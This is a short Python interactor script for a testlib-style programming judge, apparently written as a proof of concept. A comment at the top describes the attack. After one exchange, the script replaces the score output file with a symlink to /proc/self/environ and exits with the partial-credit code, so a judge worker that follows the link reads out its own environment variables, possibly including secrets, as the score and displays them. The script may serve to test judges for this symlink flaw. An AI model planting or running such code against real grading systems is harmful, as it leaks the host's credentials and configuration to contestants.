# An interactor that asks for one sum and gives partial credit (testlib's exit code 7, with its score
# in the output file, its second argument) after replacing that file with a link to the worker's
# environment: a worker that follows it reads the environment as the score and shows it.
import os, sys

a, b = map(int, open(sys.argv[1]).read().split())
print(a, b, flush=True)
answer = sys.stdin.readline().strip()
print("half", file=sys.stderr)
try:
    os.symlink("/proc/self/environ", sys.argv[2])
except OSError:
    with open(sys.argv[2], "w") as output:
        output.write("0.5\n")
sys.exit(7)
